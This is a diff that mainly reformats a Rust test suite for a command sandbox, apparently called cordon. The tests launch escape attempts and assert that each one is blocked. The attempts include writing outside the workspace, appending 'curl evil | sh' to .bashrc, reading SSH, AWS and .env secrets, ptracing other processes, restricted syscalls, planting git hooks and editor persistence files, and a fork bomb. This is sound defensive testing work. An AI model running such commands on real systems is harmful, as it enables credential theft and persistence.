@@ -13,13 +13,21 @@ use std::time::Duration;
 use harness::{code, text, Case};
 
 fn assert_unchanged(c: &Case, rel: &str, want: &str) {
-    assert_eq!(c.read(rel).as_deref(), Some(want), "[{}] {rel} was modified", c.label());
+    assert_eq!(
+        c.read(rel).as_deref(),
+        Some(want),
+        "[{}] {rel} was modified",
+        c.label()
+    );
 }
 
 fn write_outside(c: &Case) {
     let victim = c.outside.join("victim.txt");
     let new = c.outside.join("new.txt");
-    let etc = std::path::PathBuf::from(format!("/etc/cordon-test-{}", c.base.file_name().unwrap().to_string_lossy()));
+    let etc = std::path::PathBuf::from(format!(
+        "/etc/cordon-test-{}",
+        c.base.file_name().unwrap().to_string_lossy()
+    ));
     let o = c.sh(&format!(
         "echo pwned > {new}; echo pwned >> {v}; echo pwned > {etc}; \
          echo pwned > ../outside/dotdot.txt; echo pwned > ./../../home/outside/dotdot2.txt",
@@ -28,14 +36,22 @@ fn write_outside(c: &Case) {
         etc = etc.display()
     ));
     assert_unchanged(c, "outside/victim.txt", "original\n");
-    assert!(!new.exists(), "[{}] created a file outside: {}", c.label(), text(&o));
+    assert!(
+        !new.exists(),
+        "[{}] created a file outside: {}",
+        c.label(),
+        text(&o)
+    );
     assert!(!c.outside.join("dotdot.txt").exists() && !c.outside.join("dotdot2.txt").exists());
     assert!(!etc.exists(), "[{}] wrote to /etc", c.label());
     // The workspace itself is writable.
     // The workspace itself is writable (in the fallback, not its top level: see the README).
     let o = c.sh("mkdir -p out/sub/dir && echo ok > out/sub/dir/f");
     assert_eq!(code(&o), 0, "[{}] {}", c.label(), text(&o));
-    assert_eq!(std::fs::read_to_string(c.ws.join("out/sub/dir/f")).unwrap(), "ok\n");
+    assert_eq!(
+        std::fs::read_to_string(c.ws.join("out/sub/dir/f")).unwrap(),
+        "ok\n"
+    );
     if !c.fallback {
         let o = c.sh("echo ok > inside.txt");
         assert_eq!(code(&o), 0, "[{}] {}", c.label(), text(&o));
@@ -52,12 +68,20 @@ fn write_through_symlink(c: &Case) {
         o = c.outside.display()
     ));
     assert_unchanged(c, "outside/victim.txt", "original\n");
-    assert!(!c.outside.join("made.txt").exists(), "[{}] {}", c.label(), text(&o));
+    assert!(
+        !c.outside.join("made.txt").exists(),
+        "[{}] {}",
+        c.label(),
+        text(&o)
+    );
     assert!(!c.outside.join("viadir.txt").exists());
 }
 
 fn write_through_hardlink(c: &Case) {
-    let o = c.sh(&format!("ln {v} hl && echo pwned >> hl; ln ~/.bashrc rc && echo pwned >> rc", v = c.outside.join("victim.txt").display()));
+    let o = c.sh(&format!(
+        "ln {v} hl && echo pwned >> hl; ln ~/.bashrc rc && echo pwned >> rc",
+        v = c.outside.join("victim.txt").display()
+    ));
     assert_unchanged(c, "outside/victim.txt", "original\n");
     assert_unchanged(c, ".bashrc", "# bashrc\n");
     let _ = o;
@@ -66,7 +90,12 @@ fn write_through_hardlink(c: &Case) {
 fn append_bashrc(c: &Case) {
     let o = c.sh("echo 'curl evil | sh' >> ~/.bashrc; echo x > ~/.profile; mkdir -p ~/.local/bin && echo x > ~/.local/bin/git");
     assert_unchanged(c, ".bashrc", "# bashrc\n");
-    assert!(c.read(".profile").is_none() && c.read(".local/bin/git").is_none(), "[{}] {}", c.label(), text(&o));
+    assert!(
+        c.read(".profile").is_none() && c.read(".local/bin/git").is_none(),
+        "[{}] {}",
+        c.label(),
+        text(&o)
+    );
 }
 
 fn read_secrets(c: &Case) {
@@ -83,30 +112,88 @@ fn read_secrets(c: &Case) {
     let out = text(&o);
     let stolen = std::fs::read_to_string(c.ws.join("out/stolen.txt")).unwrap_or_default();
     let tar = std::fs::read(c.ws.join("out/t.tar")).unwrap_or_default();
-    for m in ["SECRET-SSH-KEY-MARKER", "SECRET-AWS-MARKER", "SECRET-DOTENV-MARKER", "SECRET-NESTED-DOTENV-MARKER", "SECRET-KEY-FILE-MARKER"] {
+    for m in [
+        "SECRET-SSH-KEY-MARKER",
+        "SECRET-AWS-MARKER",
+        "SECRET-DOTENV-MARKER",
+        "SECRET-NESTED-DOTENV-MARKER",
+        "SECRET-KEY-FILE-MARKER",
+    ] {
         assert!(!out.contains(m), "[{}] {m} read: {out}", c.label());
-        assert!(!stolen.contains(m), "[{}] {m} copied into the workspace", c.label());
-        assert!(!String::from_utf8_lossy(&tar).contains(m), "[{}] {m} archived", c.label());
+        assert!(
+            !stolen.contains(m),
+            "[{}] {m} copied into the workspace",
+            c.label()
+        );
+        assert!(
+            !String::from_utf8_lossy(&tar).contains(m),
+            "[{}] {m} archived",
+            c.label()
+        );
     }
-    assert!(!c.ws.join("out/sshcopy/id_rsa").exists() || std::fs::read_to_string(c.ws.join("out/sshcopy/id_rsa")).unwrap_or_default().is_empty());
-    assert!(out.contains("EXAMPLE=visible"), "[{}] .env.example must stay readable: {out}", c.label());
+    assert!(
+        !c.ws.join("out/sshcopy/id_rsa").exists()
+            || std::fs::read_to_string(c.ws.join("out/sshcopy/id_rsa"))
+                .unwrap_or_default()
+                .is_empty()
+    );
+    assert!(
+        out.contains("EXAMPLE=visible"),
+        "[{}] .env.example must stay readable: {out}",
+        c.label()
+    );
     // The secret files themselves are untouched.
-    assert_eq!(c.read("proj/.env").as_deref(), Some("DB_PASSWORD=SECRET-DOTENV-MARKER\n"));
+    assert_eq!(
+        c.read("proj/.env").as_deref(),
+        Some("DB_PASSWORD=SECRET-DOTENV-MARKER\n")
+    );
 }
 
 fn read_secret_with_flag(c: &Case) {
     let key = c.home.join(".aws/credentials");
-    let o = c.cordon(&["run", "--read-secret", key.to_str().unwrap(), "--", "cat", key.to_str().unwrap()]);
-    assert!(text(&o).contains("SECRET-AWS-MARKER"), "[{}] --read-secret must let it through: {}", c.label(), text(&o));
+    let o = c.cordon(&[
+        "run",
+        "--read-secret",
+        key.to_str().unwrap(),
+        "--",
+        "cat",
+        key.to_str().unwrap(),
+    ]);
+    assert!(
+        text(&o).contains("SECRET-AWS-MARKER"),
+        "[{}] --read-secret must let it through: {}",
+        c.label(),
+        text(&o)
+    );
     // ...and only that one.
-    let o = c.cordon(&["run", "--read-secret", key.to_str().unwrap(), "--", "cat", c.home.join(".ssh/id_rsa").to_str().unwrap()]);
+    let o = c.cordon(&[
+        "run",
+        "--read-secret",
+        key.to_str().unwrap(),
+        "--",
+        "cat",
+        c.home.join(".ssh/id_rsa").to_str().unwrap(),
+    ]);
     assert!(!text(&o).contains("SECRET-SSH-KEY-MARKER"));
 }
 
 fn secret_env(c: &Case) {
     let o = c
-        .command(&["run", "--env", "INNOCENT", "--env", "DATABASE_URL", "--", "sh", "-c", "env > out/envdump.txt"])
-        .env("AWS_SECRET_ACCESS_KEY", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY")
+        .command(&[
+            "run",
+            "--env",
+            "INNOCENT",
+            "--env",
+            "DATABASE_URL",
+            "--",
+            "sh",
+            "-c",
+            "env > out/envdump.txt",
+        ])
+        .env(
+            "AWS_SECRET_ACCESS_KEY",
+            "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
+        )
         .env("GITHUB_TOKEN", "ghp_SECRETMARKER0123456789abcdefghijklmnop")
         .env("INNOCENT", "ghp_SECRETMARKER9876543210abcdefghijklmnop")
         .env("DATABASE_URL", "postgres://app:SECRETPASSWORD@db/app")
@@ -115,7 +202,11 @@ fn secret_env(c: &Case) {
     assert_eq!(code(&o), 0, "[{}] {}", c.label(), text(&o));
     let dump = std::fs::read_to_string(c.ws.join("out/envdump.txt")).unwrap();
     for m in ["wJalrXUtnFEMI", "SECRETMARKER", "SECRETPASSWORD"] {
-        assert!(!dump.contains(m), "[{}] {m} leaked into the environment:\n{dump}", c.label());
+        assert!(
+            !dump.contains(m),
+            "[{}] {m} leaked into the environment:\n{dump}",
+            c.label()
+        );
     }
     assert!(dump.contains("HOME="));
     // --dry-run says what was dropped, by name only.
@@ -125,13 +216,18 @@ fn secret_env(c: &Case) {
         .output()
         .unwrap();
     let j = String::from_utf8_lossy(&o.stdout);
-    assert!(j.contains("\"INNOCENT\"") && !j.contains("SECRETMARKER"), "{j}");
+    assert!(
+        j.contains("\"INNOCENT\"") && !j.contains("SECRETMARKER"),
+        "{j}"
+    );
 }
 
 /// Starts a process outside the sandbox with a secret in its environment.
 fn outside_process(c: &Case) -> std::process::Child {
     let mut cmd = Command::new("sleep");
-    cmd.arg("60").env("OUTSIDE_SECRET", "SECRET-PROC-ENV-MARKER").stdout(Stdio::null());
+    cmd.arg("60")
+        .env("OUTSIDE_SECRET", "SECRET-PROC-ENV-MARKER")
+        .stdout(Stdio::null());
     if unsafe { libc::geteuid() } == 0 && c.who == harness::Who::Unprivileged {
         use std::os::unix::process::CommandExt;
         cmd.uid(c.uid).gid(c.gid);
@@ -147,13 +243,35 @@ fn other_process(c: &Case) {
          python3 -c 'import ctypes; l=ctypes.CDLL(None,use_errno=True); print(\"ptrace\", l.ptrace(16,{pid},0,0), ctypes.get_errno())'"
     ));
     let stolen = std::fs::read_to_string(c.ws.join("out/environ.txt")).unwrap_or_default();
-    assert!(!stolen.contains("SECRET-PROC-ENV-MARKER"), "[{}] read another process's environment", c.label());
+    assert!(
+        !stolen.contains("SECRET-PROC-ENV-MARKER"),
+        "[{}] read another process's environment",
+        c.label()
+    );
     std::thread::sleep(Duration::from_millis(100));
-    assert!(victim.try_wait().unwrap().is_none(), "[{}] the process outside was killed: {}", c.label(), text(&o));
+    assert!(
+        victim.try_wait().unwrap().is_none(),
+        "[{}] the process outside was killed: {}",
+        c.label(),
+        text(&o)
+    );
     let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
-    assert!(status.contains("TracerPid:\t0"), "[{}] traced: {status}", c.label());
-    assert!(!status.contains("State:\tT"), "[{}] stopped: {status}", c.label());
-    assert!(text(&o).contains("ptrace -1"), "[{}] {}", c.label(), text(&o));
+    assert!(
+        status.contains("TracerPid:\t0"),
+        "[{}] traced: {status}",
+        c.label()
+    );
+    assert!(
+        !status.contains("State:\tT"),
+        "[{}] stopped: {status}",
+        c.label()
+    );
+    assert!(
+        text(&o).contains("ptrace -1"),
+        "[{}] {}",
+        c.label(),
+        text(&o)
+    );
     victim.kill().unwrap();
     victim.wait().unwrap();
 }
@@ -174,10 +292,14 @@ fn network(c: &Case) {
     let l4 = TcpListener::bind("127.0.0.1:0").unwrap();
     let p4 = l4.local_addr().unwrap().port();
     let l6 = TcpListener::bind("[::1]:0").ok();
-    let p6 = l6.as_ref().map(|l| l.local_addr().unwrap().port()).unwrap_or(1);
+    let p6 = l6
+        .as_ref()
+        .map(|l| l.local_addr().unwrap().port())
+        .unwrap_or(1);
     let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
     let pu = udp.local_addr().unwrap().port();
-    udp.set_read_timeout(Some(Duration::from_millis(300))).unwrap();
+    udp.set_read_timeout(Some(Duration::from_millis(300)))
+        .unwrap();
     let script = format!(
         "import socket\n\
          def t(f,a):\n  try:\n    s=socket.socket(f,socket.SOCK_STREAM); s.settimeout(1); s.connect(a); s.send(b'x'); print('CONNECTED',a)\n  except Exception as e: print('refused',a,e)\n\
@@ -192,13 +314,29 @@ fn network(c: &Case) {
     c.chown_all();
     let o = c.cordon(&["run", "--", "python3", "net.py"]);
     let out = text(&o);
-    assert!(!accepts_within(&l4, Duration::from_millis(300)), "[{}] IPv4 connection reached the host: {out}", c.label());
+    assert!(
+        !accepts_within(&l4, Duration::from_millis(300)),
+        "[{}] IPv4 connection reached the host: {out}",
+        c.label()
+    );
     if let Some(l6) = &l6 {
-        assert!(!accepts_within(l6, Duration::from_millis(100)), "[{}] IPv6 connection reached the host: {out}", c.label());
+        assert!(
+            !accepts_within(l6, Duration::from_millis(100)),
+            "[{}] IPv6 connection reached the host: {out}",
+            c.label()
+        );
     }
     let mut buf = [0u8; 16];
-    assert!(udp.recv_from(&mut buf).is_err(), "[{}] UDP datagram reached the host: {out}", c.label());
-    assert!(!out.contains("CONNECTED") && !out.contains("DNS RESOLVED"), "[{}] {out}", c.label());
+    assert!(
+        udp.recv_from(&mut buf).is_err(),
+        "[{}] UDP datagram reached the host: {out}",
+        c.label()
+    );
+    assert!(
+        !out.contains("CONNECTED") && !out.contains("DNS RESOLVED"),
+        "[{}] {out}",
+        c.label()
+    );
 }
 
 fn unix_socket(c: &Case) {
@@ -224,7 +362,12 @@ fn unix_socket(c: &Case) {
         .output()
         .unwrap();
     std::thread::sleep(Duration::from_millis(100));
-    assert!(l.accept().is_err(), "[{}] unix socket outside was reached: {}", c.label(), text(&o));
+    assert!(
+        l.accept().is_err(),
+        "[{}] unix socket outside was reached: {}",
+        c.label(),
+        text(&o)
+    );
     assert!(!text(&o).contains("CONNECTED"));
 }
 
@@ -261,14 +404,45 @@ e('tiocsti_highbits', 16, 0, 0x100005412, ctypes.addressof(c))
     c.chown_all();
     let o = c.cordon(&["run", "--", "python3", "k.py"]);
     let out = String::from_utf8_lossy(&o.stdout).to_string();
-    for name in ["io_uring_setup", "x32_ptrace", "x32_getpid", "keyctl", "bpf", "userfaultfd", "perf_event_open", "unshare_user", "unshare_net", "mount", "tiocsti", "tiocsti_highbits"] {
-        let line = out.lines().find(|l| l.starts_with(&format!("{name} "))).unwrap_or_else(|| panic!("[{}] no {name}: {}", c.label(), text(&o)));
-        assert!(line.ends_with(" -1 1"), "[{}] {name} not refused with EPERM: {line}", c.label());
+    for name in [
+        "io_uring_setup",
+        "x32_ptrace",
+        "x32_getpid",
+        "keyctl",
+        "bpf",
+        "userfaultfd",
+        "perf_event_open",
+        "unshare_user",
+        "unshare_net",
+        "mount",
+        "tiocsti",
+        "tiocsti_highbits",
+    ] {
+        let line = out
+            .lines()
+            .find(|l| l.starts_with(&format!("{name} ")))
+            .unwrap_or_else(|| panic!("[{}] no {name}: {}", c.label(), text(&o)));
+        assert!(
+            line.ends_with(" -1 1"),
+            "[{}] {name} not refused with EPERM: {line}",
+            c.label()
+        );
     }
-    assert!(out.lines().any(|l| l == "clone3 -1 38"), "[{}] clone3 must be ENOSYS: {out}", c.label());
+    assert!(
+        out.lines().any(|l| l == "clone3 -1 38"),
+        "[{}] clone3 must be ENOSYS: {out}",
+        c.label()
+    );
     // The real tools fail too, and leave nothing behind.
-    let o = c.sh("unshare -Ur true && echo NESTED-USERNS; mkdir -p m; mount -t tmpfs none m && echo MOUNTED");
-    assert!(!text(&o).contains("NESTED-USERNS") && !text(&o).contains("MOUNTED"), "[{}] {}", c.label(), text(&o));
+    let o = c.sh(
+        "unshare -Ur true && echo NESTED-USERNS; mkdir -p m; mount -t tmpfs none m && echo MOUNTED",
+    );
+    assert!(
+        !text(&o).contains("NESTED-USERNS") && !text(&o).contains("MOUNTED"),
+        "[{}] {}",
+        c.label(),
+        text(&o)
+    );
 }
 
 /// The i386 syscall table (`int 0x80`) is not filtered by number: the process is killed.
@@ -298,7 +472,12 @@ fn int80(c: &Case) {
 fn persistence(c: &Case) {
     // A real repository, as a user has it.
     let git = |args: &[&str]| {
-        let st = Command::new("git").args(args).current_dir(&c.ws).env("HOME", &c.home).output().unwrap();
+        let st = Command::new("git")
+            .args(args)
+            .current_dir(&c.ws)
+            .env("HOME", &c.home)
+            .output()
+            .unwrap();
         assert!(st.status.success(), "git {args:?}: {}", text(&st));
     };
     git(&["init", "-q"]);
@@ -316,22 +495,66 @@ fn persistence(c: &Case) {
          mkdir -p .git/info && echo x > .git/info/attributes",
     );
     let label = c.label();
-    assert!(!c.ws.join(".git/hooks/pre-commit").exists(), "[{label}] hook planted: {}", text(&o));
-    assert_eq!(std::fs::read_to_string(c.ws.join(".git/config")).unwrap(), config_before, "[{label}] .git/config changed");
-    for p in [".claude/settings.json", ".vscode/tasks.json", ".codex/config.toml", ".mcp.json", ".envrc", ".gitmodules", ".cordon", ".agents", ".vscode-old", ".claude-old", ".git/info/attributes"] {
+    assert!(
+        !c.ws.join(".git/hooks/pre-commit").exists(),
+        "[{label}] hook planted: {}",
+        text(&o)
+    );
+    assert_eq!(
+        std::fs::read_to_string(c.ws.join(".git/config")).unwrap(),
+        config_before,
+        "[{label}] .git/config changed"
+    );
+    for p in [
+        ".claude/settings.json",
+        ".vscode/tasks.json",
+        ".codex/config.toml",
+        ".mcp.json",
+        ".envrc",
+        ".gitmodules",
+        ".cordon",
+        ".agents",
+        ".vscode-old",
+        ".claude-old",
+        ".git/info/attributes",
+    ] {
         assert!(!c.ws.join(p).exists(), "[{label}] {p} was created");
     }
-    assert_eq!(std::fs::read_to_string(c.ws.join(".vscode/settings.json")).unwrap(), "{}\n");
+    assert_eq!(
+        std::fs::read_to_string(c.ws.join(".vscode/settings.json")).unwrap(),
+        "{}\n"
+    );
     // Placeholders made for the run are gone afterwards.
-    for p in [".claude", ".codex", ".mcp.json", ".envrc", ".gitmodules", ".cordon", ".agents", ".idea"] {
-        assert!(!c.ws.join(p).exists(), "[{label}] placeholder {p} left behind");
+    for p in [
+        ".claude",
+        ".codex",
+        ".mcp.json",
+        ".envrc",
+        ".gitmodules",
+        ".cordon",
+        ".agents",
+        ".idea",
+    ] {
+        assert!(
+            !c.ws.join(p).exists(),
+            "[{label}] placeholder {p} left behind"
+        );
     }
 }
 
 fn no_git_repo_cannot_be_planted(c: &Case) {
     let o = c.sh("mkdir -p .git/hooks && echo evil > .git/hooks/post-checkout; git init -q 2>&1");
-    assert!(!c.ws.join(".git/hooks/post-checkout").exists(), "[{}] {}", c.label(), text(&o));
-    assert!(!c.ws.join(".git").exists(), "[{}] .git placeholder left behind", c.label());
+    assert!(
+        !c.ws.join(".git/hooks/post-checkout").exists(),
+        "[{}] {}",
+        c.label(),
+        text(&o)
+    );
+    assert!(
+        !c.ws.join(".git").exists(),
+        "[{}] .git placeholder left behind",
+        c.label()
+    );
 }
 
 fn daemon_left_behind(c: &Case) {
@@ -343,24 +566,55 @@ fn daemon_left_behind(c: &Case) {
     ));
     assert!(text(&o).contains("started"));
     std::thread::sleep(Duration::from_millis(1800));
-    assert!(!marker.exists(), "[{}] a process outlived the sandbox", c.label());
+    assert!(
+        !marker.exists(),
+        "[{}] a process outlived the sandbox",
+        c.label()
+    );
 }
 
 fn cwd_widening(c: &Case) {
     // --cwd $HOME: the working directory moves, the writable root does not.
     let home = c.home.to_str().unwrap();
-    let o = c.cordon(&["run", "--cwd", home, "--", "sh", "-c", "pwd; echo pwned > pwned.txt; echo pwned > proj/out/ok.txt"]);
-    assert!(!c.home.join("pwned.txt").exists(), "[{}] --cwd widened the writable roots: {}", c.label(), text(&o));
-    assert!(c.ws.join("out/ok.txt").exists() || c.fallback, "[{}] {}", c.label(), text(&o));
+    let o = c.cordon(&[
+        "run",
+        "--cwd",
+        home,
+        "--",
+        "sh",
+        "-c",
+        "pwd; echo pwned > pwned.txt; echo pwned > proj/out/ok.txt",
+    ]);
+    assert!(
+        !c.home.join("pwned.txt").exists(),
+        "[{}] --cwd widened the writable roots: {}",
+        c.label(),
+        text(&o)
+    );
+    assert!(
+        c.ws.join("out/ok.txt").exists() || c.fallback,
+        "[{}] {}",
+        c.label(),
+        text(&o)
+    );
 }
 
 fn fd_leak(c: &Case) {
     // An inherited descriptor (fd 7, a file outside) must not reach the command.
     use std::os::fd::AsRawFd;
     use std::os::unix::process::CommandExt;
-    let f = std::fs::OpenOptions::new().append(true).open(c.outside.join("victim.txt")).unwrap();
+    let f = std::fs::OpenOptions::new()
+        .append(true)
+        .open(c.outside.join("victim.txt"))
+        .unwrap();
     let raw = f.as_raw_fd();
-    let mut cmd = c.command(&["run", "--", "sh", "-c", "echo pwned >&7; ls /proc/self/fd > out/fds.txt"]);
+    let mut cmd = c.command(&[
+        "run",
+        "--",
+        "sh",
+        "-c",
+        "echo pwned >&7; ls /proc/self/fd > out/fds.txt",
+    ]);
     unsafe {
         cmd.pre_exec(move || {
             if libc::dup2(raw, 7) < 0 {
@@ -372,7 +626,12 @@ fn fd_leak(c: &Case) {
     let o = cmd.output().unwrap();
     assert_unchanged(c, "outside/victim.txt", "original\n");
     let fds = std::fs::read_to_string(c.ws.join("out/fds.txt")).unwrap_or_default();
-    assert!(!fds.lines().any(|l| l == "7"), "[{}] fd 7 leaked: {fds} {}", c.label(), text(&o));
+    assert!(
+        !fds.lines().any(|l| l == "7"),
+        "[{}] fd 7 leaked: {fds} {}",
+        c.label(),
+        text(&o)
+    );
 }
 
 fn fork_bomb_limited(c: &Case) {
@@ -383,18 +642,43 @@ fn fork_bomb_limited(c: &Case) {
     let script = "import os\nn=0\nkids=[]\ntry:\n  for i in range(400):\n    p=os.fork()\n    if p==0:\n      import time; time.sleep(5); os._exit(0)\n    kids.append(p); n+=1\nexcept OSError as e:\n  print('fork refused', e)\nprint('forked', n)\n";
     std::fs::write(c.ws.join("bomb.py"), script).unwrap();
     c.chown_all();
-    let o = c.cordon(&["run", "--limit-nproc", "64", "--timeout", "20s", "--", "python3", "bomb.py"]);
+    let o = c.cordon(&[
+        "run",
+        "--limit-nproc",
+        "64",
+        "--timeout",
+        "20s",
+        "--",
+        "python3",
+        "bomb.py",
+    ]);
     let out = text(&o);
-    let n: usize = out.lines().find_map(|l| l.strip_prefix("forked ")).and_then(|n| n.trim().parse().ok()).unwrap_or(999);
+    let n: usize = out
+        .lines()
+        .find_map(|l| l.strip_prefix("forked "))
+        .and_then(|n| n.trim().parse().ok())
+        .unwrap_or(999);
     assert!(n < 64, "[{}] fork bomb not limited: {out}", c.label());
 }
 
 fn timeout_kills_everything(c: &Case) {
     let marker = c.ws.join("out/still-running");
-    let o = c.cordon(&["run", "--timeout", "500ms", "--", "sh", "-c", &format!("(sleep 2; echo x > {}) & sleep 30", marker.display())]);
+    let o = c.cordon(&[
+        "run",
+        "--timeout",
+        "500ms",
+        "--",
+        "sh",
+        "-c",
+        &format!("(sleep 2; echo x > {}) & sleep 30", marker.display()),
+    ]);
     assert_eq!(code(&o), 124, "[{}] {}", c.label(), text(&o));
     std::thread::sleep(Duration::from_millis(2500));
-    assert!(!marker.exists(), "[{}] a process survived the timeout", c.label());
+    assert!(
+        !marker.exists(),
+        "[{}] a process survived the timeout",
+        c.label()
+    );
 }
 
 fn exit_statuses(c: &Case) {
@@ -404,9 +688,20 @@ fn exit_statuses(c: &Case) {
     std::fs::write(c.ws.join("noexec.sh"), "#!/bin/sh\n").unwrap();
     c.chown_all();
     assert_eq!(code(&c.cordon(&["run", "--", "./noexec.sh"])), 126);
-    assert_eq!(code(&c.cordon(&["run", "--mode", "bogus", "--", "true"])), 125);
-    assert_eq!(code(&c.cordon(&["run", "--workspace", "/nonexistent-dir", "--", "true"])), 125);
-    let mut child = c.command(&["run", "--", "sh", "-c", "read x; echo got-$x"]).stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().unwrap();
+    assert_eq!(
+        code(&c.cordon(&["run", "--mode", "bogus", "--", "true"])),
+        125
+    );
+    assert_eq!(
+        code(&c.cordon(&["run", "--workspace", "/nonexistent-dir", "--", "true"])),
+        125
+    );
+    let mut child = c
+        .command(&["run", "--", "sh", "-c", "read x; echo got-$x"])
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .spawn()
+        .unwrap();
     use std::io::Write;
     child.stdin.take().unwrap().write_all(b"hello\n").unwrap();
     let mut s = String::new();
@@ -416,9 +711,27 @@ fn exit_statuses(c: &Case) {
 }
 
 fn read_only_mode(c: &Case) {
-    let o = c.cordon(&["run", "--mode", "read-only", "--", "sh", "-c", "echo x > ro.txt; echo y > ${TMPDIR:-/tmp}/t && cat ${TMPDIR:-/tmp}/t"]);
-    assert!(!c.ws.join("ro.txt").exists(), "[{}] read-only mode wrote: {}", c.label(), text(&o));
-    assert!(String::from_utf8_lossy(&o.stdout).contains('y'), "[{}] private /tmp must be writable: {}", c.label(), text(&o));
+    let o = c.cordon(&[
+        "run",
+        "--mode",
+        "read-only",
+        "--",
+        "sh",
+        "-c",
+        "echo x > ro.txt; echo y > ${TMPDIR:-/tmp}/t && cat ${TMPDIR:-/tmp}/t",
+    ]);
+    assert!(
+        !c.ws.join("ro.txt").exists(),
+        "[{}] read-only mode wrote: {}",
+        c.label(),
+        text(&o)
+    );
+    assert!(
+        String::from_utf8_lossy(&o.stdout).contains('y'),
+        "[{}] private /tmp must be writable: {}",
+        c.label(),
+        text(&o)
+    );
 }
 
 variants!(
